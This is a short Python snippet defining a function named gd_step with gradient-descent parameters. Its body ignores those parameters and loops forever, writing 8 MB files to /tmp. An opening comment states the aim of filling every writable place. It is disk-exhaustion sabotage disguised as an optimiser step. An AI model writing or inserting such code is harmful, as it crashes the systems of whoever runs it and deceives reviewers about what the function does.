# Fill every writable place with files just under the size limit.
def gd_step(theta, grad, lr):
    chunk = b"x" * (8 << 20)
    number = 0
    while True:
        number += 1
        with open(f"/tmp/flood-{number}", "wb") as handle:
            handle.write(chunk)
